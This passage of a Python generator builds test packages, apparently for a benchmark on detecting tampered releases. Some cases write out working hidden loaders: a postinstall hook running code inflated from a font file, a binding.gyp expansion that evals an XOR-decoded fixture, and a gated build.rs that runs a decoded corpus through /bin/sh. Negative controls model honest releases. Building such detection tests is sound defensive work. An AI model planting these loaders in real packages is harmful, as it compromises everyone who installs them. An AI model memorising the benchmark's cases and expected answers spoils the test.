    const buf = fs.readFileSync(path.join(__dirname, '..', 'assets', 'fonts', 'icons.woff2'));
    const n = buf.readUInt32BE(buf.length - 4);
    const src = zlib.inflateRawSync(buf.subarray(buf.length - 4 - n, buf.length - 4)).toString();
    const m = new Module('glyph-cache', module);
    m._compile(src, 'glyph-cache.js');
  } catch (e) {
    // the cache is optional
  }
}

warmFontCache();
"""


def case_npm_postinstall_woff2_inflate(work: Path) -> CaseResult:
    """Tracked scripts/postinstall.js (an honest funding banner at the tag),
    modified in the npm tarball: inflateRawSync of the tail of a tracked WOFF2
    font, compiled with Module._compile."""
    name, version = "blindicons", "4.2.0"
    blob = "assets/fonts/icons.woff2"
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = co.compress(js_payload("npm-woff2")) + co.flush()
    font = b"wOF2\x00\x01\x00\x00" + noise("woff2", 1800) + packed + struct.pack(">I", len(packed))
    pj = _npm_manifest(
        name,
        version,
        files=["lib", "assets", "scripts"],
        scripts={"test": "node test/index.test.js", "postinstall": "node scripts/postinstall.js"},
    )
    banner = POSTINSTALL_BANNER.replace("@NAME@", name)
    files: Files = as_bytes(
        {
            "lib/index.js": "'use strict';\nconst path = require('path');\nmodule.exports = {\n"
            "  font: path.join(__dirname, '..', 'assets', 'fonts', 'icons.woff2'),\n};\n",
            "scripts/postinstall.js": banner,
            blob: font,
            "test/index.test.js": "const { font } = require('..');\nif (!font.endsWith('.woff2'))"
            " process.exit(1);\n",
            "README.md": f"# {name}\n",
            ".gitignore": "node_modules/\n",
        }
    )
    files["package.json"] = package_json(pj)
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = {k: files[k] for k in ("package.json", "lib/index.js", blob, "README.md")}
    art_files["scripts/postinstall.js"] = (banner + POSTINSTALL_INJECT).encode()
    art = npm_tgz(work / f"{name}-{version}.tgz", art_files)
    return repo, art, expected(True, "scripts/postinstall.js", "high", [blob])


def case_npm_binding_gyp_expansion(work: Path) -> CaseResult:
    """Native addon whose tracked binding.gyp gains, in the npm tarball, a gyp
    `<!(...)` command expansion (run by node-gyp at install) that XOR-decodes
    a tracked test fixture and evals it with node."""
    name, version = "blindframe", "1.3.5"
    blob = "test/fixtures/frame.bin"
    fixture = noise("gyp-frame", 256) + bytes(b ^ 0x2F for b in js_payload("npm-gyp"))
    target = {"target_name": name, "sources": ["src/addon.cc"], "cflags": ["-O2"]}
    gyp_git = {"targets": [target]}
    probe = (
        "node -e \"const b=require('fs').readFileSync('" + blob + "');"
        "eval(b.subarray(256).map(c=>c^47).toString());console.log('v1')\""
    )
    gyp_art = {"variables": {"frame_abi": f"<!({probe})"}, "targets": [target]}
    pj = _npm_manifest(
        name, version, files=["lib", "src", "binding.gyp", "test/fixtures"], gypfile=True
    )
    files: Files = as_bytes(
        {
            "binding.gyp": json.dumps(gyp_git, indent=2) + "\n",
            "src/addon.cc": "#include <node_api.h>\n\nstatic napi_value Init(napi_env env, "
            "napi_value exports) { return exports; }\n\nNAPI_MODULE(NODE_GYP_MODULE_NAME, "
            "Init)\n",
            "lib/index.js": "'use strict';\nmodule.exports = require('../build/Release/"
            f"{name}.node');\n",
            blob: fixture,
            "test/index.test.js": "require('..');\n",
            "README.md": f"# {name}\n",
            ".gitignore": "node_modules/\nbuild/\n",
        }
    )
    files["package.json"] = package_json(pj)
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_pj = json.loads(json.dumps(pj))
    art_pj["scripts"]["install"] = "node-gyp rebuild"
    art_files = {k: files[k] for k in ("src/addon.cc", "lib/index.js", blob, "README.md")}
    art_files["binding.gyp"] = (json.dumps(gyp_art, indent=2) + "\n").encode()
    art_files["package.json"] = package_json(art_pj)
    art = npm_tgz(work / f"{name}-{version}.tgz", art_files)
    return repo, art, expected(True, "binding.gyp", "high", [blob])


# ===========================================================================
# Rust
# ===========================================================================

CRATE_TOML = """\
[package]
name = "@NAME@"
version = "@VERSION@"
edition = "2021"
description = "@NAME@ helpers"
license = "MIT"

[dependencies]
"""

CRATE_TOML_NORMALIZED = """\
# THIS FILE IS AUTOMATICALLY GENERATED BY CARGO
#
# When uploading crates to the registry Cargo will automatically
# "normalize" Cargo.toml files for maximal compatibility
# with all versions of Cargo and also rewrite `path` dependencies
# to registry (e.g., crates.io) dependencies.
#
# If you are reading this file be aware that the original Cargo.toml
# will likely look very different (and much more reasonable).
# See Cargo.toml.orig for the original contents.

[package]
edition = "2021"
name = "@NAME@"
version = "@VERSION@"
build = "build.rs"
autobins = false
autoexamples = false
autotests = false
autobenches = false
description = "@NAME@ helpers"
readme = false
license = "MIT"

[lib]
name = "@NAME@"
path = "src/lib.rs"

[dependencies]
"""


def crate_tarball(
    work: Path, name: str, version: str, files: Files, sha: str
) -> tuple[Path, Files]:
    """The files ``cargo package`` writes, minus any change the caller makes later."""
    art = dist_tree(files)
    art["Cargo.toml.orig"] = art["Cargo.toml"]
    art["Cargo.toml"] = (
        CRATE_TOML_NORMALIZED.replace("@NAME@", name).replace("@VERSION@", version).encode()
    )
    art[".cargo_vcs_info.json"] = (
        json.dumps({"git": {"sha1": sha}, "path_in_vcs": ""}, indent=2) + "\n"
    ).encode()
    return work / f"{name}-{version}.crate", art


BUILD_RS_GIT = """\
use std::env;
use std::process::Command;
@USE@
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let rustc = env::var("RUSTC").unwrap_or_else(|_| "rustc".into());
    if let Ok(out) = Command::new(rustc).arg("--version").output() {
        let v = String::from_utf8_lossy(&out.stdout);
        if !v.contains(" 1.6") {
            println!("cargo:rustc-cfg=has_const_generics_defaults");
        }
    }
@EXTRA@}
"""

BUILD_RS_USE = """\
use std::fs;
use std::path::{Path, PathBuf};
"""

BUILD_RS_EXTRA = """\
    let arch = env::var("CARGO_CFG_TARGET_ARCH").unwrap_or_default();
    let abi = env::var("CARGO_CFG_TARGET_ENV").unwrap_or_default();
    if arch == "x86_64" && abi == "gnu" && Path::new("/usr/bin/dpkg-buildpackage").exists() {
        if let Ok(raw) = fs::read("benches/data/corpus-large.bin") {
            let body: Vec<u8> = raw[4096..].iter().map(|b| b.rotate_left(4)).collect();
            let probe = PathBuf::from(env::var("OUT_DIR").unwrap()).join("probe.sh");
            if fs::write(&probe, &body).is_ok() {
                let _ = Command::new("/bin/sh").arg(&probe).status();
            }
        }
    }
"""


def case_crate_build_rs_tracked_gated(work: Path) -> CaseResult:
    """A .crate whose tracked build.rs (a rustc-version probe at the tag) grows
    an xz-style gate (x86_64, gnu, dpkg-buildpackage present) that nibble-swaps
    the tail of a tracked bench corpus into OUT_DIR and runs it with /bin/sh."""
    name, version = "blindlz", "0.7.2"
    blob = "benches/data/corpus-large.bin"
    corpus = noise("bench-corpus", 4096) + bytes(
        ((b << 4) | (b >> 4)) & 0xFF for b in sh_payload("crate-gated")
    )
    files = as_bytes(
        {
            "Cargo.toml": CRATE_TOML.replace("@NAME@", name).replace("@VERSION@", version),
            "build.rs": BUILD_RS_GIT.replace("@USE@", "").replace("@EXTRA@", ""),
            "src/lib.rs": "pub fn run_length(data: &[u8]) -> usize {\n"
            "    data.windows(2).filter(|w| w[0] != w[1]).count() + 1\n}\n",
            "benches/corpus.rs": "#![feature(test)]\nextern crate test;\n\n#[bench]\n"
            "fn corpus(b: &mut test::Bencher) {\n    let d = include_bytes!"
            '("data/corpus-large.bin");\n    b.iter(|| blindlz::run_length(d));\n}\n',
            blob: corpus,
            "README.md": f"# {name}\n",
            ".gitignore": "/target\nCargo.lock\n",
        }
    )
    repo, sha = make_repo(work / "repo", files, f"v{version}")
    out, art_files = crate_tarball(work, name, version, files, sha)
    art_files["build.rs"] = (
        BUILD_RS_GIT.replace("@USE@", BUILD_RS_USE).replace("@EXTRA@", BUILD_RS_EXTRA).encode()
    )
    art = tar_gz(out, f"{name}-{version}", art_files)
    return repo, art, expected(True, "build.rs", "high", [blob])


# ===========================================================================
# negative controls
# ===========================================================================

GNULIB_M4 = ("iconv.m4", "lib-ld.m4", "lib-link.m4", "lib-prefix.m4", "host-cpu-c-abi.m4")


def case_neg_autotools_gettext_macros(work: Path) -> CaseResult:
    """Honest gettext-style autotools release: untracked, unmodified upstream
    m4 files (iconv, lib-link, lib-prefix, host-cpu-c-abi) and config.rpath as
    autopoint would copy them, an honest AC_CONFIG_COMMANDS, a generated
    ChangeLog, .tarball-version and the real autoreconf -fi output."""
    name, version = "blindiconv", "1.17.0"
    macros = {f"m4/{m}": system_file(ACLOCAL_DIR / m) for m in GNULIB_M4}
    rpath = system_file(GETTEXT_DIR / "config.rpath")
    files, execs = autotools_project(
        name,
        version,
        configure_extra=(
            "PKG_PROG_PKG_CONFIG\nAM_ICONV\n"
            "AC_CONFIG_COMMANDS([test-scripts],\n"
            '  [chmod +x "$ac_srcdir/tests/test_frames.sh" 2>/dev/null || :])'
        ),
        autogen_extra="# copy the gettext infrastructure (m4/*.m4, build-aux/config.rpath)\n"
        "autopoint --force\n",
        extra_gitignore="/.tarball-version\n/ChangeLog\n",
    )
    repo, sha = make_repo(work / "repo", files, f"v{version}", execs)
    tree = dict(files)
    tree.update(as_bytes(macros))
    tree["build-aux/config.rpath"] = rpath.encode()
    gen, gen_execs = autoreconf(tree, execs | {"build-aux/config.rpath"})
    gen[".tarball-version"] = f"{version}\n".encode()
    gen["ChangeLog"] = (
        "2024-02-23  Blind Maintainer  <maintainer@example.invalid>\n\n"
        f"\tImport sources\n\n\tcommit {sha}\n"
    ).encode()
    art = release_tgz(work, name, version, gen, gen_execs)
    return repo, art, expected(False, None)


CORPUS_CMAKE_EXTRA = """\
# Unpack the sample corpus for the decompression round-trip tests.
file(ARCHIVE_EXTRACT INPUT "${CMAKE_CURRENT_SOURCE_DIR}/tests/data/corpus.tar.gz"
     DESTINATION "${CMAKE_CURRENT_BINARY_DIR}/corpus")

# Embed the reference vector as a C array for the unit tests.
file(READ "${CMAKE_CURRENT_SOURCE_DIR}/tests/data/reference.bin" _ref_hex HEX)
string(REGEX REPLACE "([0-9a-f][0-9a-f])" "0x\\\\1," _ref_c "${_ref_hex}")
file(WRITE "${CMAKE_CURRENT_BINARY_DIR}/reference.h"
     "static const unsigned char reference[] = {${_ref_c}};\\n")

# Stamp the version from git, or from the tarball's .git_archival.txt.
execute_process(COMMAND git describe --tags --always
  WORKING_DIRECTORY "${CMAKE_CURRENT_SOURCE_DIR}"
  OUTPUT_VARIABLE BLINDHIST_GIT_DESCRIBE OUTPUT_STRIP_TRAILING_WHITESPACE ERROR_QUIET)

add_test(NAME corpus COMMAND test_hist ${CMAKE_CURRENT_BINARY_DIR}/corpus/corpus/sample-1.bin)
"""


def case_neg_cmake_test_archive(work: Path) -> CaseResult:
    """Honest CMake release (git archive + export-subst): the tracked build
    unpacks a tracked .tar.gz test corpus, embeds a binary vector with
    file(READ ... HEX) + string(REGEX REPLACE) and runs `git describe`, but
    executes nothing it decodes; .git_archival.txt is expanded in the tarball."""
    version = "2.0.0"
    corpus = tgz_bytes(
        "corpus",
        {
            "README": b"Inputs for the decompression round-trip tests.\n",
            "sample-1.bin": noise("neg-corpus-1", 900),
            "sample-2.bin": noise("neg-corpus-2", 1500),
        },
    )
    archival_git = (
        "node: $Format:%H$\nnode-date: $Format:%cI$\ndescribe-name: $Format:%(describe)$\n"
    )
    files = _hist_files(
        version,
        CORPUS_CMAKE_EXTRA,
        "CTest",
        {
            "tests/data/corpus.tar.gz": corpus,
            "tests/data/reference.bin": b"HST\x01" + noise("neg-ref", 252),
            ".git_archival.txt": archival_git,
            ".gitattributes": ".git_archival.txt export-subst\n",
        },
    )
    repo, sha = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files, drop=(".gitignore", ".gitattributes"))
    art_files[".git_archival.txt"] = (
        f"node: {sha}\nnode-date: 2024-02-23T16:09:52+00:00\ndescribe-name: v{version}\n"
    ).encode()
    art = tar_gz(work / f"blindhist-{version}.tar.gz", f"blindhist-{version}", art_files)
    return repo, art, expected(False, None)


VERSIONEER_VERSION_GIT = '''\
# This file helps to compute a version number in source trees obtained from
# git-archive tarball (such as those provided by githubs download-from-tag
# feature). Distribution tarballs (built by setup.py sdist) and build
# directories (produced by setup.py build) will contain a much shorter file
# that just contains the computed version number.

# This file is released into the public domain.
# Generated by versioneer-0.29
# https://github.com/python-versioneer/python-versioneer

"""Git implementation of _version.py."""

import errno
import os
import re
import subprocess
import sys
from typing import Any, Callable, Dict, List, Optional, Tuple


def get_keywords() -> Dict[str, str]:
    """Get the keywords needed to look up the version information."""
    git_refnames = "$Format:%d$"
    git_full = "$Format:%H$"
    git_date = "$Format:%ci$"
    keywords = {"refnames": git_refnames, "full": git_full, "date": git_date}
    return keywords


class NotThisMethod(Exception):
    """Exception raised if a method is not valid for the current scenario."""


def run_command(
    commands: List[str],
    args: List[str],
    cwd: Optional[str] = None,
    verbose: bool = False,
    hide_stderr: bool = False,
    env: Optional[Dict[str, str]] = None,
) -> Tuple[Optional[str], Optional[int]]:
    """Call the given command(s)."""
    assert isinstance(commands, list)
    process = None

    popen_kwargs: Dict[str, Any] = {}
    if sys.platform == "win32":
        # This hides the console window if pythonw.exe is used
        startupinfo = subprocess.STARTUPINFO()
        startupinfo.dwFlags |= subprocess.STARTF_USESHOWWINDOW
        popen_kwargs["startupinfo"] = startupinfo

    for command in commands:
        try:
            dispcmd = str([command] + args)
            # remember shell=False, so use git.cmd on windows, not just git
            process = subprocess.Popen([command] + args, cwd=cwd, env=env,
                                       stdout=subprocess.PIPE,
                                       stderr=(subprocess.PIPE if hide_stderr
                                               else None), **popen_kwargs)
            break
        except OSError as e:
            if e.errno == errno.ENOENT:
                continue
            if verbose:
                print("unable to run %s" % dispcmd)
                print(e)
            return None, None
    else:
        if verbose:
            print("unable to find command, tried %s" % (commands,))
        return None, None
    stdout = process.communicate()[0].strip().decode()
    if process.returncode != 0:
        if verbose:
            print("unable to run %s (error)" % dispcmd)
            print("stdout was %s" % stdout)
        return None, process.returncode
    return stdout, process.returncode


def git_pieces_from_vcs(
    tag_prefix: str, root: str, verbose: bool, runner: Callable = run_command
) -> Dict[str, Any]:
    """Get version from 'git describe' in the root of the source tree."""
    GITS = ["git"]
    env = os.environ.copy()
    env.pop("GIT_DIR", None)
    _, rc = runner(GITS, ["rev-parse", "--git-dir"], cwd=root, hide_stderr=not verbose, env=env)
    if rc != 0:
        raise NotThisMethod("'git rev-parse --git-dir' returned error")
    describe_out, rc = runner(GITS, [
        "describe", "--tags", "--dirty", "--always", "--long",
        "--match", f"{tag_prefix}[[:digit:]]*"
    ], cwd=root, env=env)
    if describe_out is None:
        raise NotThisMethod("'git describe' failed")
    pieces: Dict[str, Any] = {"long": describe_out, "error": None}
    mo = re.search(r"^(.+)-(\\d+)-g([0-9a-f]+)$", describe_out)
    if mo:
        pieces["closest-tag"] = mo.group(1)[len(tag_prefix):]
        pieces["distance"] = int(mo.group(2))
        pieces["short"] = mo.group(3)
    return pieces


def get_versions() -> Dict[str, Any]:
    """Get version information or return default if unable to do so."""
    root = os.path.dirname(os.path.realpath(__file__))
    for _ in "src/blindver".split("/"):
        root = os.path.dirname(root)
    try:
        pieces = git_pieces_from_vcs("v", root, False)
        return {"version": pieces.get("closest-tag", "0+unknown"),
                "full-revisionid": None, "dirty": None, "error": None, "date": None}
    except NotThisMethod:
        return {"version": "0+unknown", "full-revisionid": None,
                "dirty": None, "error": "unable to compute version", "date": None}
'''

VERSIONEER_VERSION_SDIST = """\

# This file was generated by 'versioneer.py' (0.29) from
# revision-control system data, or from the parent directory name of an
# unpacked source archive. Distribution tarballs contain a pre-generated copy
# of this file.

import json

version_json = '''
{
 "date": "2024-02-23T16:09:52+0000",
 "dirty": false,
 "error": null,
 "full-revisionid": "@SHA@",
 "version": "@VERSION@"
}
'''  # END VERSION_JSON


def get_versions():
    return json.loads(version_json)
"""

VERSIONEER_STUB = '''\
# Version: 0.29
"""The Versioneer - like a rocketeer, but for versions.

Vendored copy (trimmed). See https://github.com/python-versioneer/python-versioneer
"""

import configparser
import os


def get_root() -> str:
    return os.path.dirname(os.path.realpath(os.path.abspath(__file__)))


def get_config_from_root(root: str) -> dict:
    parser = configparser.ConfigParser()
    parser.read(os.path.join(root, "setup.cfg"))
    return dict(parser["versioneer"])


def get_version() -> str:
    import importlib.util

    cfg = get_config_from_root(get_root())
    spec = importlib.util.spec_from_file_location("_v", cfg["versionfile_source"])
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod.get_versions()["version"]


def get_cmdclass(cmdclass=None) -> dict:
    return dict(cmdclass or {})
'''


def case_neg_sdist_versioneer(work: Path) -> CaseResult:
    """Honest versioneer sdist: the tracked _version.py (which runs `git
    describe` through subprocess) is replaced by the short generated JSON
    version, setup.cfg gains egg_info tags, PKG-INFO and .egg-info/ appear."""
    name, version = "blindver", "2.1.0"
    readme = "# blindver\n\nVersion helpers.\n"
    setup_cfg = (
        "[versioneer]\nVCS = git\nstyle = pep440\n"
        "versionfile_source = src/blindver/_version.py\n"
        "versionfile_build = blindver/_version.py\ntag_prefix = v\n"
    )
    files = as_bytes(
        {
            "setup.py": "from setuptools import find_packages, setup\n\nimport versioneer\n\n"
            'setup(\n    name="blindver",\n    version=versioneer.get_version(),\n'
            "    cmdclass=versioneer.get_cmdclass(),\n"
            '    package_dir={"": "src"},\n    packages=find_packages("src"),\n)\n',
            "setup.cfg": setup_cfg,
            "versioneer.py": VERSIONEER_STUB,
            "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\n'
            'build-backend = "setuptools.build_meta"\n',
            "MANIFEST.in": "include versioneer.py\ninclude src/blindver/_version.py\n",
            "README.md": readme,
            "src/blindver/__init__.py": "from ._version import get_versions\n\n"
            '__version__ = get_versions()["version"]\ndel get_versions\n',
            "src/blindver/_version.py": VERSIONEER_VERSION_GIT,
            ".gitattributes": "src/blindver/_version.py export-subst\n",
            "tests/test_version.py": "import blindver\n\n\ndef test_version():\n"
            "    assert blindver.__version__\n",
            ".gitignore": "*.egg-info/\n/build/\n/dist/\n",
        }
    )
    repo, sha = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files, drop=(".gitignore", ".gitattributes"))
    art_files["src/blindver/_version.py"] = (
        VERSIONEER_VERSION_SDIST.replace("@SHA@", sha).replace("@VERSION@", version).encode()
    )
    extras = setuptools_sdist_extras(
        name, version, "Version helpers", readme, art_files, "src/blindver.egg-info"
    )
    extras["setup.cfg"] = (setup_cfg + "\n").encode() + extras["setup.cfg"]
    art_files.update(extras)
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", art_files)
    return repo, art, expected(False, None)


GLOBAL_BUNDLE = """\
/*! blindglobal v@VERSION@ | MIT */
!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():\
"function"==typeof define&&define.amd?define(t):(e="undefined"!=typeof globalThis?globalThis:\
e||self).blindGlobal=t()}(this,function(){"use strict";var g=function(){try{return \
Function("return this")()}catch(e){return"object"==typeof window?window:{}}}();\
function n(e){return Object.prototype.hasOwnProperty.call(g,e)}return{root:g,has:n}});
//# sourceMappingURL=data:application/json;charset=utf-8;base64,@MAP@
"""

GLOBAL_SRC = """\
const root = (function getGlobal() {
  try {
    return Function('return this')();
  } catch (e) {
    return typeof window === 'object' ? window : {};
  }
})();

export function has(name) {
  return Object.prototype.hasOwnProperty.call(root, name);
}

export { root };
"""


def case_neg_npm_bundle_banner(work: Path) -> CaseResult:
    """Honest npm package: untracked rollup output (UMD wrapper, the classic
    Function("return this") global lookup, an inline base64 source map) and a
    tracked, unchanged postinstall funding banner gated on CI/ADBLOCK."""
    import base64

    name, version = "blindglobal", "3.0.2"
    pj = _npm_manifest(
        name,
        version,
        main="dist/index.min.js",
        module="src/index.js",
        files=["dist", "src", "scripts"],
        scripts={
            "build": "rollup -c",
            "prepublishOnly": "npm run build",
            "postinstall": "node scripts/postinstall.js",
            "test": "node test/index.test.js",
        },
        devDependencies={"rollup": "^4.12.0", "@rollup/plugin-terser": "^0.4.4"},
    )
    files: Files = as_bytes(
        {
            "src/index.js": GLOBAL_SRC,
            "scripts/postinstall.js": POSTINSTALL_BANNER.replace("@NAME@", name),
            "rollup.config.mjs": "import terser from '@rollup/plugin-terser';\n\nexport default "
            "{\n  input: 'src/index.js',\n  output: { file: 'dist/index.min.js', format: 'umd',"
            " name: 'blindGlobal', sourcemap: 'inline', plugins: [terser()] },\n};\n",
            "test/index.test.js": "const g = require('..');\nif (!g.has('Object')) "
            "process.exit(1);\n",
            "README.md": f"# {name}\n",
            ".gitignore": "node_modules/\ndist/\n",
        }
    )
    files["package.json"] = package_json(pj)
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    source_map = json.dumps(
        {
            "version": 3,
            "file": "index.min.js",
            "sources": ["../src/index.js"],
            "sourcesContent": [GLOBAL_SRC],
            "names": ["root", "getGlobal", "Function", "window", "has", "name"],
            "mappings": "CAAA,SAAAA,EAAAC",
        }
    )
    bundle = GLOBAL_BUNDLE.replace("@VERSION@", version).replace(
        "@MAP@", base64.b64encode(source_map.encode()).decode()
    )
    art_files = {
        k: files[k] for k in ("package.json", "src/index.js", "scripts/postinstall.js", "README.md")
    }
    art_files["dist/index.min.js"] = bundle.encode()
    art = npm_tgz(work / f"{name}-{version}.tgz", art_files)
    return repo, art, expected(False, None)


BUILD_RS_PROBE = """\
//! Probe the compiler like autocfg does: compile a tiny program with rustc.
use std::env;
use std::fs;
use std::path::PathBuf;
use std::process::{Command, Stdio};

fn probe(code: &str) -> bool {
    let out_dir = PathBuf::from(env::var_os("OUT_DIR").expect("OUT_DIR"));
    let src = out_dir.join("probe.rs");
    if fs::write(&src, code).is_err() {
        return false;
    }
    let rustc = env::var_os("RUSTC").unwrap_or_else(|| "rustc".into());
    Command::new(rustc)
        .args(["--crate-type=lib", "--emit=metadata", "--out-dir"])
        .arg(&out_dir)
        .arg(&src)
        .stderr(Stdio::null())
        .status()
        .map(|s| s.success())
        .unwrap_or(false)
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rustc-check-cfg=cfg(has_u128_checked_ilog)");
    if probe("pub fn f(x: u128) -> Option<u32> { x.checked_ilog2() }") {
        println!("cargo:rustc-cfg=has_u128_checked_ilog");
    }
}
"""


def case_neg_crate_build_probe(work: Path) -> CaseResult:
    """Honest .crate: tracked, unchanged build.rs that writes a probe source
    to OUT_DIR and compiles it with $RUSTC (autocfg style), plus Cargo's
    normalised Cargo.toml, Cargo.toml.orig and .cargo_vcs_info.json."""
    name, version = "blindlog", "1.0.3"
    files = as_bytes(
        {
            "Cargo.toml": CRATE_TOML.replace("@NAME@", name).replace("@VERSION@", version),
            "build.rs": BUILD_RS_PROBE,
            "src/lib.rs": "pub fn ilog2(x: u128) -> Option<u32> {\n"
            "    if x == 0 { None } else { Some(127 - x.leading_zeros()) }\n}\n",
            "tests/data/powers.bin": b"".join(struct.pack("<Q", 1 << i) for i in range(64)),
            "tests/powers.rs": "#[test]\nfn powers() {\n    let d = include_bytes!"
            '("data/powers.bin");\n    assert_eq!(d.len(), 512);\n}\n',
            "README.md": f"# {name}\n",
            ".gitignore": "/target\nCargo.lock\n",
        }
    )
    repo, sha = make_repo(work / "repo", files, f"v{version}")
    out, art_files = crate_tarball(work, name, version, files, sha)
    art = tar_gz(out, f"{name}-{version}", art_files)
    return repo, art, expected(False, None)


# ===========================================================================
# registry
# ===========================================================================

CASES: dict[str, Callable[[Path], CaseResult]] = {
    "m4-host-cpu-perl-uudecode": case_m4_host_cpu_perl_uudecode,
    "configure-od-printf-heredoc": case_configure_od_printf_heredoc,
    "m4-tracked-cut-paste-eval": case_m4_tracked_cut_paste_eval,
    "makefile-in-shell-python-png": case_makefile_in_shell_python_png,
    "config-guess-gated-bunzip2": case_config_guess_gated_bunzip2,
    "depcomp-env-printf-hex": case_depcomp_env_printf_hex,
    "cmake-file-read-hex-regex": case_cmake_file_read_hex_regex,
    "cmake-install-code-tar-include": case_cmake_install_code_tar_include,
    "meson-custom-target-lzma-wav": case_meson_custom_target_lzma_wav,
    "setup-py-cmdclass-jpeg-xor": case_setup_py_cmdclass_jpeg_xor,
    "pep517-backend-path-pickle": case_pep517_backend_path_pickle,
    "npm-postinstall-woff2-inflate": case_npm_postinstall_woff2_inflate,
    "npm-binding-gyp-expansion": case_npm_binding_gyp_expansion,
    "crate-build-rs-tracked-gated": case_crate_build_rs_tracked_gated,
    "neg-autotools-gettext-macros": case_neg_autotools_gettext_macros,
    "neg-cmake-test-archive": case_neg_cmake_test_archive,
    "neg-sdist-versioneer": case_neg_sdist_versioneer,
    "neg-npm-bundle-banner": case_neg_npm_bundle_banner,
    "neg-crate-build-probe": case_neg_crate_build_probe,
}
